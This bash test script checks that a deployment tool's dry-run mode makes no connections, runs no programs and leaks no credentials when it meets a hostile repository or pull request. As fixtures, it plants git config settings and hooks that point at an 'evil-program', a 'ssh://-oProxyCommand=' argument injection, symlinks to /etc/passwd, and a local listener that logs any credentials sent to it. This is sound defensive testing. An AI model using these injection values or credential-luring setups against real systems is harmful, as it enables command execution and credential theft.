#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Dry runs. Offline: no connection, no program, no file but those asked for, and no waiting, whatever lies in the folder and in its
# repository. Of a hostile pull request, which points everything
# it can at a server that listens: that server is never given a credential, and nothing that the request names is run.
set -euo pipefail
. "$(dirname "$0")/../lib/world.sh" "$(cd "$1" && pwd)"
command -v crun >/dev/null || skip "crun is not installed"
command -v python3 >/dev/null || skip "python3 is not installed"
cleanup() { stop_servers; rm -rf "$work"; }
trap cleanup EXIT
build_world
add_image a
cat >more.yaml <<YAML
apiVersion: image.openshift.io/v1
kind: ImageStream
metadata: {name: base, namespace: shop}
spec:
  tags: [{name: "1", from: {kind: DockerImage, name: "registry.local/stacks/base:run"}, importPolicy: {scheduled: true}}]
---
apiVersion: build.openshift.io/v1
kind: BuildConfig
metadata: {name: web, namespace: shop}
spec:
  source: {git: {uri: ../a.git, ref: main}}
  strategy: {sourceStrategy: {from: {kind: ImageStreamTag, name: "base:1"}}}
  output: {to: {kind: ImageStreamTag, name: "web:1"}}
  triggers: [{type: Manual}]
---
apiVersion: build.openshift.io/v1
kind: BuildConfig
metadata: {name: file, namespace: shop}
spec:
  source: {dockerfile: FROM scratch}
  strategy: {dockerStrategy: {from: {kind: ImageStreamTag, name: "base:1"}}}
  output: {to: {kind: ImageStreamTag, name: "web:2"}}
  triggers: [{type: Manual}]
---
apiVersion: image.openshift.io/v1
kind: ImageStream
metadata: {name: web, namespace: shop}
YAML
check "a run" expect_exit 0 "$reconcile" .
cp more.yaml "$work/more.yaml"
sed -i 's/type: Manual/type: ConfigChange/' more.yaml

note "an offline dry run of every kind of object"
if command -v strace >/dev/null; then
	# The leak checker cannot work where strace already traces.
	check "runs" expect_exit 0 env ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" \
		strace -f -o "$work/trace" "$reconcile" --dry-run=offline .
	check "plans builds of build configs" says "BuildConfig shop/web"
	check "the trace has its end" grep -q 'exited with 0' "$work/trace"
	check "connects to nobody" bash -c "! grep -E ' (connect|sendto|sendmsg|bind)\(|socket\(AF_(INET|UNIX)' '$work/trace'"
	check "starts no program" [ "$(grep -cE 'execve(at)?\(' "$work/trace")" = 1 ]
	check "nor a process" bash -c "! grep -E ' v?fork\(|clone3?\(' '$work/trace' | grep -v CLONE_THREAD"
	check "writes no file" bash -c "! grep -E 'O_WRONLY|O_RDWR|O_CREAT|O_TMPFILE| (mkdir|rename|unlink|link|symlink|truncate|mknod|chmod|chown|utime)[a-z0-9]*\(|f(truncate|chmod|chown)' '$work/trace' | grep -v '\"/dev/null\"'"
else
	note "no strace here: the trace is left out"
fi
cp "$work/more.yaml" more.yaml

note "a hostile folder of manifests, and a repository whose configuration names programs"
printf '#!/bin/sh\necho ran >>%s/ran\n' "$work" >"$work/evil-program"
chmod 755 "$work/evil-program"
before=$(git rev-parse reconcile/state)
# A run that waits for somebody to write to a pipe would wait for ever.
soon() { # CODE TEXT
	local got=0
	timeout 60 "$reconcile" --dry-run=offline . >"$work/out" 2>"$work/err" || got=$?
	[ "$got" = "$1" ] || { echo "exit $got, not $1"; cat "$work/out" "$work/err"; return 1; }
	! grep -q 'root:[^ ]*:' "$work/out" "$work/err" || { echo "it shows a file of the machine"; return 1; }
	[ ! -e "$work/ran" ] || { echo "a program ran"; return 1; }
	says "$2"
}
mkdir odd odd/deep odd/shut
mkfifo odd/pipe.yaml odd/deep/pipe odd/kustomization.yaml
ln -s deep/pipe odd/to-pipe.yaml
ln -s /dev/zero odd/zero.yaml
ln -s /proc odd/proc
ln -s . odd/self
ln -s .. odd/up
ln -s one.yaml odd/other.yaml
ln -s other.yaml odd/one.yaml
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("odd/socket.yaml")'
check "pipes, sockets, devices, links in circles and to /proc are no manifests" soon 0 "8 unchanged"
ln -s /etc/passwd odd/out.yaml
check "nor is a file outside of the folder" soon 3 "out.yaml: error: link leads out of the folder of the manifests"
rm odd/out.yaml
truncate -s 300G odd/endless.yaml
check "a file without end" soon 3 "longer than 8388608 bytes"
rm -r odd
printf 'apiVersion: v1\nkind: Secret\nmetadata: {name: s, annotations: {reconcile.dev/from-file: "a=pipe,b=/etc/passwd,c=out"}}\n' >secret.yaml
mkfifo pipe
ln -s /etc/passwd out
check "secrets of files outside of the folder" soon 3 "secret.yaml:1:1: error: a Secret cannot take file 'out': only those below the folder"
sed -i 's/,b=.*"/"/' secret.yaml
check "or of a pipe" expect_exit 3 timeout 60 "$reconcile" --dry-run .
check "are refused by name" says "secret.yaml:1:1: error: "
rm secret.yaml pipe out
cp .git/config "$work/git-config"
for setting in core.fsmonitor core.sshCommand core.pager core.askPass core.editor core.gitProxy core.hooksPath credential.helper \
	gpg.program gpg.ssh.program filter.x.clean filter.x.smudge filter.x.process diff.external uploadpack.packObjectsHook \
	remote.origin.uploadpack alias.status; do
	git config --file .git/config "$setting" "$work/evil-program"
done
git config --file .git/config commit.gpgSign true
git config --file .git/config url."ext::$work/evil-program ".insteadOf ../
printf '* filter=x diff=x\n' >.gitattributes
for hook in post-checkout pre-commit reference-transaction fsmonitor-watchman; do cp "$work/evil-program" ".git/hooks/$hook"; done
check "programs that the repository's own configuration names" soon 0 "8 unchanged"
check "nor when sources are asked" bash -c "timeout 60 '$reconcile' --dry-run . >/dev/null 2>&1; [ ! -e '$work/ran' ]"
rm .gitattributes .git/hooks/*
cp "$work/git-config" .git/config
for file in refs/heads/reconcile/state objects/info/alternates; do
	mv ".git/$file" "$work/kept" 2>/dev/null || rm -f "$work/kept"
	mkfifo ".git/$file"
	check "a pipe as $file" soon 5 "it is a pipe"
	rm ".git/$file"
	[ ! -e "$work/kept" ] || mv "$work/kept" ".git/$file"
done
check "the state is as it was" [ "$before" = "$(git rev-parse reconcile/state)" ]
if [ "$(id -u)" = 0 ]; then
	chown -R 1234 .git
	check "a repository of somebody else" soon 5 "git repository"
	chown -R 0 .git
fi

note "a hostile pull request"
cat >"$work/listener.py" <<'PYTHON'
"""Answers every request as one that wants a login, and keeps all that it is told: listener.py PORT-FILE LOG."""
import http.server, os, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[2], "a", encoding="utf-8") as log:
            print(self.command, self.path, dict(self.headers), self.rfile.read(int(self.headers.get("Content-Length") or 0)), file=log)
        host = self.headers.get("Host")
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="x"' if "basic" in self.path or "git" in self.path else
                         f'Bearer realm="http://{host}/token",service="registry.test.invalid"')
        self.send_header("Content-Length", "0")
        self.end_headers()
    do_POST = do_PUT = do_HEAD = do_PATCH = do_DELETE = do_GET
    def log_message(self, *_):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
with open(sys.argv[1] + ".new", "w", encoding="ascii") as file:
    file.write(str(server.server_address[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
server.serve_forever()
PYTHON
start_fake "$work/listener" "$work/listener.py" "$work/heard"
evil=$SERVER_ADDR
: >"$work/heard"
c_registry=canary-registry-4f1c c_git=canary-git-9b27 c_env=canary-env-c07a c_helper=canary-helper-81e6 c_netrc=canary-netrc-d25f c_jenkins=canary-jenkins-77a1
# What the machine of the run has: logins for others.
export RECONCILE_SECRET_REGISTRY=$c_registry RECONCILE_SECRET_OTHER=$c_env JENKINS_TOKEN=$c_jenkins RECONCILE_JENKINS_TOKEN=$c_jenkins GITHUB_TOKEN=$c_env
mkdir -p "$HOME/.docker"
printf '{"auths":{"https://registry.test.invalid":{"auth":"%s"},"https://index.docker.io/v1/":{"auth":"%s"}}}' \
	"$(printf 'u:%s' "$c_registry" | base64 -w0)" "$(printf 'u:%s' "$c_registry" | base64 -w0)" >"$HOME/.docker/config.json"
printf 'machine git.example.com login u password %s\n' "$c_netrc" >"$HOME/.netrc"
printf 'https://u:%s@git.example.com\n' "$c_helper" >"$HOME/.git-credentials"
git config --global credential.helper store
cat >secrets.yaml <<YAML
apiVersion: v1
kind: ServiceAccount
metadata: {name: default, namespace: shop}
secrets: [{name: registry}, {name: git}]
---
apiVersion: v1
kind: Secret
metadata: {name: registry, namespace: shop, annotations: {kpack.io/docker: "https://registry.test.invalid/v2/", reconcile.dev/from-env: password=RECONCILE_SECRET_REGISTRY}}
type: kubernetes.io/basic-auth
stringData: {username: u}
---
apiVersion: v1
kind: Secret
metadata: {name: git, namespace: shop, annotations: {kpack.io/git: "https://git.example.com"}}
type: kubernetes.io/basic-auth
stringData: {username: u, password: $c_git}
YAML
# From here on it is the pull request's.
image() { # NAME SOURCE [TAG]
	printf -- '---\napiVersion: kpack.io/v1alpha2\nkind: Image\nmetadata: {name: %s, namespace: shop}\nspec:\n  tag: %s\n  builder: {kind: ClusterBuilder, name: default}\n  source: %s\n' \
		"$1" "${3:-registry.local/apps/$1}" "$2"
}
{
	image git "{git: {url: http://$evil/git/app.git, revision: main}}"
	image user "{git: {url: http://git.example.com@$evil/git/app.git, revision: main}}"
	image blob "{blob: {url: http://$evil/basic/app.zip}}"
	image source "{registry: {image: $evil/source/app}}"
	image tag "{git: {url: ../a.git, revision: main}}" "$evil/out/tag"
	image moved "{registry: {image: registry.test.invalid/out/moved}}"
	image program "{git: {url: \"ext::$work/evil-program\", revision: main}}"
	image shell "{git: {url: \"ssh://-oProxyCommand=$work/evil-program/x\", revision: main}}"
	cat <<YAML
---
apiVersion: image.openshift.io/v1
kind: ImageStream
metadata: {name: evil, namespace: shop}
spec:
  tags: [{name: "1", from: {kind: DockerImage, name: "$evil/basic/evil:1"}, importPolicy: {insecure: true}}]
---
apiVersion: build.openshift.io/v1
kind: BuildConfig
metadata: {name: evil, namespace: shop, annotations: {reconcile.dev/follow: commits}}
spec:
  source: {git: {uri: "http://$evil/git/app.git", ref: main}, sourceSecret: {name: git}}
  strategy: {sourceStrategy: {from: {kind: DockerImage, name: "$evil/basic/builder:1"}, pullSecret: {name: registry}}}
  output: {to: {kind: DockerImage, name: "$evil/basic/out:1"}, pushSecret: {name: registry}}
  triggers: [{type: ConfigChange}, {type: ImageChange}]
YAML
} >evil.yaml
quiet() {
	local word form got=0
	"$reconcile" "$@" >"$work/out" 2>"$work/err" || got=$?
	cat "$work/out" "$work/err" >>"$work/said"
	[ "$got" -lt 128 ] || { cat "$work/err"; return 1; }
	for word in canary- "$c_registry" "$c_git" "$c_env" "$c_helper" "$c_netrc" "$c_jenkins" "u:$c_registry" "u:$c_git" "u:$c_helper" "u:$c_netrc"; do
		for form in "$word" "$(printf %s "$word" | base64 -w0 | sed 's/..$//; s/=*$//')"; do
			! grep -aF -- "$form" "$work/heard" "$work/said" || return 1
		done
	done
	[ ! -e "$work/ran" ] || { echo "a program of the request ran"; return 1; }
}
before=$(git rev-parse reconcile/state)
cp "$example/manifests/reconcile.yaml" reconcile.yaml
python3 - "$evil" <<'PYTHON'
import sys, yaml
with open("reconcile.yaml") as file:
    value = yaml.safe_load(file)
value["registries"].append({"prefix": sys.argv[1], "insecure": True})
with open("reconcile.yaml", "w") as file:
    yaml.safe_dump(value, file)
PYTHON
check "sources and images at the listener" quiet --dry-run --log-level debug .
check "it was asked" [ -s "$work/heard" ]
check "for the registry and for the repository" bash -c "grep -q ' /v2/' '$work/heard' && grep -q '/git/app.git' '$work/heard'"
check "nobody was sent a login" bash -c "! grep -i \"'Authorization'\" '$work/heard'"
check "offline it is not even asked" bash -c ": >'$work/heard'; '$reconcile' --dry-run=offline . >/dev/null 2>&1; [ ! -s '$work/heard' ]"

note "secrets that it sends to another server"
cp secrets.yaml "$work/secrets.yaml"
printf -- '---\napiVersion: v1\nkind: Secret\nmetadata: {name: plain, namespace: shop, annotations: {reconcile.dev/from-env: "password=RECONCILE_SECRET_REGISTRY"}}\nstringData: {username: u}\n' >>secrets.yaml
sed -i "s|https://registry.test.invalid/v2/|http://$evil|; s|kpack.io/git: \"https://git.example.com\"|kpack.io/git: \"http://$evil\", kpack.io/blob: \"http://$evil\", reconcile.dev/from-env: \"password=RECONCILE_SECRET_OTHER,username=RECONCILE_SECRET_OTHER\"|; s|, password: $c_git||" secrets.yaml
sed -i 's/sourceSecret: {name: git}/sourceSecret: {name: plain}/; s/^  triggers/  serviceAccount: nobody\n&/' evil.yaml
: >"$work/heard"
check "a plan" quiet --dry-run --log-level debug .
check "they are asked" bash -c "grep -q ' /v2/' '$work/heard' && grep -q '/git/app.git' '$work/heard' && grep -q '/basic/app.zip' '$work/heard'"
check "it says what is not sent where" bash -c "grep -q \"'RECONCILE_SECRET_REGISTRY' is not sent to 'http://$evil'\" '$work/err' && grep -q \"'RECONCILE_SECRET_OTHER' is not sent to 'http://$evil'\" '$work/err'"
check "nor when it must find nothing to do" quiet --expect-no-changes .
check "its own settings do not help" bash -c "printf 'secrets: [{from: RECONCILE_SECRET_REGISTRY, servers: [\"*\"]}, {from: RECONCILE_SECRET_OTHER, servers: [\"*\"]}]\n' >>reconcile.yaml"
check "a plan by them" quiet --dry-run --log-level debug .
check "they are said to be left out" grep -q "secrets" "$work/err"
check "nobody was sent a login" bash -c "! grep -i \"'Authorization'\" '$work/heard'"
mkdir -p "$HOME/.config/reconcile"
printf 'apiVersion: reconcile.dev/v1\nkind: Settings\nsecrets: [{from: RECONCILE_SECRET_REGISTRY, servers: ["https://registry.test.invalid"]}, {from: RECONCILE_SECRET_OTHER, servers: ["http://%s"]}]\n' "$evil" >"$HOME/.config/reconcile/settings.yaml"
"$reconcile" --dry-run . >"$work/out" 2>"$work/err" || true
check "what the user allows is sent" grep -q "$(printf %s "$c_env:$c_env" | base64 -w0)" "$work/heard"
check "and nothing else" bash -c "! grep -F -e '$c_registry' -e '$(printf 'u:%s' "$c_registry" | base64 -w0)' '$work/heard'"
rm "$HOME/.config/reconcile/settings.yaml"
cp "$work/secrets.yaml" secrets.yaml
: >"$work/heard"

note "its settings"
# try NAME YAML: one more setting of the folder.
try() {
	cp "$example/manifests/reconcile.yaml" reconcile.yaml
	python3 - "$2" <<-'PYTHON'
		import sys, yaml
		with open("reconcile.yaml") as file:
		    value = yaml.safe_load(file)
		for key, more in yaml.safe_load(sys.argv[1]).items():
		    value[key] = value[key] + more if key == "registries" else more
		with open("reconcile.yaml", "w") as file:
		    yaml.safe_dump(value, file)
	PYTHON
	check "$1" quiet --dry-run --log-level debug .
}
try "a registry that is elsewhere" "registries: [{prefix: registry.test.invalid, location: '$evil/basic', insecure: true}]"
try "a mirror" "registries: [{prefix: registry.test.invalid, mirrors: ['$evil/basic'], insecure: true}]"
try "Jenkins" "jenkins: {url: 'http://$evil/basic', user: me, tokenEnv: JENKINS_TOKEN, tokenFile: $HOME/.netrc}"
try "an executor" "executor: {command: ['$work/evil-program']}"
try "a runtime" "runtime: $work/evil-program"
try "a credential helper" "credentials: {helper: $work/evil-program}"
try "the state elsewhere" "state: {repository: 'http://$evil/git/state.git'}"
check "nobody was sent a login" bash -c "! grep -i \"'Authorization'\" '$work/heard'"
check "a registry was asked for at another place" grep -q " /v2/basic/out/moved/" "$work/heard"
check "the state is as it was" [ "$before" = "$(git rev-parse reconcile/state)" ]
exit $failed
